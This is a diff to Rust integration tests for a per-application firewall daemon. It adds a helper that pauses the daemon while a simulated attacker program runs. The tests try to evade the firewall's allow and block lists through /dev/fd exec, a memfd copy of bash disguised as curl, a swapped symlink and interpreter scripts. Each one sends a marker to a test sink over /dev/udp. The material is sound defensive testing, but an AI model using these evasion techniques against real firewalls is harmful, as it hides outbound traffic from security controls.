@@ -41,6 +41,17 @@ fn curl_posts(bed: &Bed, marker: &str) {
     );
 }
 
+/// Runs `cmd` to its end while appfw is stopped (SIGSTOP): its packets wait
+/// in the queue (appfw still holds it, so nothing bypasses it) and are
+/// judged after the process exited, from what the kernel recorded. Only
+/// for UDP senders, which do not wait for an answer.
+fn judged_after_exit(d: &Daemon, cmd: &mut std::process::Command) -> Output {
+    d.signal(libc::SIGSTOP);
+    let out = cmd.output();
+    d.signal(libc::SIGCONT);
+    out.expect("running the attacker's program")
+}
+
 fn assert_blocked(bed: &Bed, marker: &str, out: &Output) {
     assert!(
         !bed.sink_got(marker, BLOCKED_WAIT),
@@ -220,20 +231,23 @@ fn exec_through_dev_fd_and_memfd_is_the_file_executed() {
     let d = Daemon::start(&bed, &["-b"], Some(&blacklist(&["/usr/bin/python3"])));
     curl_posts(&bed, "devfd-allowed");
     let script = send_script("udp", SERVER_V4, "devfd-python");
-    let out = run(bed.as_attacker("/usr/bin/bash").args([
-        "-c",
-        "exec 3<\"$1\"; exec /dev/fd/3 -c \"$2\"",
-        "bash",
-        &python_exe(),
-        &script,
-    ]));
+    let out = judged_after_exit(
+        &d,
+        bed.as_attacker("/usr/bin/bash").args([
+            "-c",
+            "exec 3<\"$1\"; exec /dev/fd/3 -c \"$2\"",
+            "bash",
+            &python_exe(),
+            &script,
+        ]),
+    );
     assert_blocked(&bed, "devfd-python", &out);
     d.wait_trace_line(&["'/dev/fd/3 (device ", "is in blacklist -> DROP. ('udp', "]);
     drop(d);
 
     // A whitelist: a copy of bash in a memfd, exec'd through
     // /proc/self/fd/N with argv[0] "curl", is not curl.
-    let _d = Daemon::start(&bed, &["-w"], Some(&whitelist(&["/usr/bin/curl"])));
+    let d = Daemon::start(&bed, &["-w"], Some(&whitelist(&["/usr/bin/curl"])));
     curl_posts(&bed, "memfd-allowed");
     let launcher = format!(
         "import os\n\
@@ -241,7 +255,7 @@ fn exec_through_dev_fd_and_memfd_is_the_file_executed() {
          os.write(fd, open('/usr/bin/bash', 'rb').read())\n\
          os.execv('/proc/self/fd/%d' % fd, ['curl', '-c', 'echo memfd-bash > /dev/udp/{SERVER_V4}/{SINK_PORT}'])\n"
     );
-    let out = run(bed.as_attacker(python()).args(["-c", &launcher]));
+    let out = judged_after_exit(&d, bed.as_attacker(python()).args(["-c", &launcher]));
     assert_blocked(&bed, "memfd-bash", &out);
     assert!(
         !String::from_utf8_lossy(&out.stderr).contains("Traceback"),
@@ -266,14 +280,17 @@ fn symlink_swapped_after_exec_is_not_the_new_target() {
         send_script("udp", SERVER_V4, "symlink-swapped"),
         link = link.to_str().unwrap()
     );
-    let out = run(bed.as_attacker("/usr/bin/bash").args([
-        "-c",
-        "ln -s \"$1\" \"$2\" && exec \"$2\" -c \"$3\"",
-        "bash",
-        &python_exe(),
-        link.to_str().unwrap(),
-        &script,
-    ]));
+    let out = judged_after_exit(
+        &d,
+        bed.as_attacker("/usr/bin/bash").args([
+            "-c",
+            "ln -s \"$1\" \"$2\" && exec \"$2\" -c \"$3\"",
+            "bash",
+            &python_exe(),
+            link.to_str().unwrap(),
+            &script,
+        ]),
+    );
     assert!(out.status.success(), "the attack did not run: {out:?}");
     assert_eq!(
         fs::read_link(&link).unwrap(),
@@ -315,7 +332,7 @@ fn scripts_of_a_blacklisted_interpreter_are_blocked_exited_or_alive() {
         ),
         0o755,
     );
-    let out = run(&mut bed.as_attacker(quick.to_str().unwrap()));
+    let out = judged_after_exit(&d, &mut bed.as_attacker(quick.to_str().unwrap()));
     assert_blocked(&bed, "script-exited", &out);
     let mut alive = bed
         .as_attacker(stay.to_str().unwrap())
